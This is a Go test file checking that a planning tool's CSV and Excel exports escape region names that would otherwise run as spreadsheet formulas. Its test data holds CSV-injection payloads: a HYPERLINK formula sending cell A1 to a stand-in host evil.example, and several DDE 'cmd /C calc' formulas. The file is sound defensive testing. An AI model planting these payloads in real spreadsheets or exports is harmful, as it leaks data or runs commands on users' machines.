package data_test

// The tables planbook writes for spreadsheets (CSV here, the workbook in
// package export) must never make a spreadsheet run a formula from a name.

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/tools/txtar"

	"planbook/generator/compute"
	"planbook/generator/data"
	"planbook/generator/export"
	"planbook/generator/plan"
)

// Hostile names: each would run as a formula in a spreadsheet that opens
// the CSV file.
var formulaNames = map[string]string{
	`name = "East"`:     `name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"`,
	`name = "North"`:    `name = "+1+cmd|' /C calc'!A0"`,
	`name = "South"`:    `name = "@SUM(1+1)*cmd|' /C calc'!A0"`,
	`name = "Core"`:     `name = "-2+3+cmd|' /C calc'!A0"`,
	`name = "New"`:      `name = "\t=1+1"`,
	`name = "Services"`: `name = "\r=1+1"`,
}

// FormulaSite returns the mini site with the hostile names and actual
// results that include a credit note (a negative revenue).
func formulaSite(t *testing.T) *compute.Result {
	t.Helper()
	ar, err := txtar.ParseFile("../../testdata/sites/mini.txtar")
	if err != nil {
		t.Fatal(err)
	}
	fsys := fstest.MapFS{}
	for _, f := range ar.Files {
		text := string(f.Data)
		for from, to := range formulaNames {
			text = strings.Replace(text, from, to, 1)
		}
		fsys[f.Name] = &fstest.MapFile{Data: []byte(text)}
	}
	fsys["content/actuals/2024.csv"] = &fstest.MapFile{Data: []byte("month,region,product,channel,customer,revenue\n2024-01,east,core,,,12\n2024-01,north,core,,,-5\n")}
	p, errs := plan.Load(fsys)
	if errs.HasErrors() {
		t.Fatal(errs.Err())
	}
	r, cerrs := compute.Compute(p)
	if cerrs.HasErrors() {
		t.Fatal(cerrs.Err())
	}
	return r
}

// TestCSVFormulaCells writes the CSV files of a plan whose names start
// with = + - @, a tab or a carriage return: every such cell reads back as
// the name behind an apostrophe, which spreadsheets show as text, and no
// cell but a number starts with a formula character; numbers, negative
// ones included, stay plain numbers.
func TestCSVFormulaCells(t *testing.T) {
	r := formulaSite(t)
	files := data.CSV(r)
	for name, b := range data.ActualsFiles(r) {
		if strings.HasSuffix(name, ".csv") {
			files[name] = b
		}
	}
	escaped, negatives := 0, 0
	for name, file := range files {
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if strings.HasPrefix(cell, "'") {
						escaped++
					}
					continue
				}
				if !number.MatchString(cell) {
					t.Errorf("%s row %d column %d: %q would run as a formula", name, i+1, j+1, cell)
				} else {
					negatives++
				}
			}
		}
	}
	if escaped < 9 {
		t.Errorf("only %d names written as text", escaped)
	}
	if negatives == 0 {
		t.Error("no negative amount: the credit note is missing from the test")
	}
	quarters, _ := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(files["data/regions-quarters.csv"], []byte("\ufeff")))).ReadAll()
	if got := quarters[1][1]; got != `'=HYPERLINK("http://evil.example/?"&A1,"Click")` {
		t.Errorf("east's name is written %q", got)
	}
	actuals := string(files["data/actuals-regions.csv"])
	if !strings.Contains(actuals, "\r\nnorth,'+1+cmd|' /C calc'!A0,-5,") {
		t.Errorf("north's actual row does not keep -5 a number:\n%s", actuals)
	}
}

// number is an amount as the CSV files write it.
var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// TestWorkbookFormulaCells exports the same plan as a workbook: the
// hostile names are stored as text cells, never as formulas, with their
// exact text (the workbook needs no apostrophe), and amounts as numbers.
func TestWorkbookFormulaCells(t *testing.T) {
	r := formulaSite(t)
	book, err := export.Workbook(r, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	hostile := map[string]bool{}
	for _, to := range formulaNames {
		name := strings.TrimSuffix(strings.TrimPrefix(to, `name = "`), `"`)
		name = strings.NewReplacer(`\"`, `"`, `\t`, "\t", `\r`, "\r").Replace(name)
		hostile[name] = true
	}
	found, formulas := 0, 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, value := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					formulas++
				}
				if !hostile[value] {
					continue
				}
				found++
				if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s %q is stored as cell type %v, not text", sheet, cell, value, typ)
				}
			}
		}
	}
	if formulas > 0 {
		t.Errorf("the workbook holds %d formulas", formulas)
	}
	if found < len(hostile) {
		t.Errorf("found the hostile names %d times, want each of %d at least once", found, len(hostile))
	}
	if v, _ := f.GetCellValue("Plan vs actual", "A1"); v == "" {
		t.Error("no Plan vs actual sheet")
	}
}
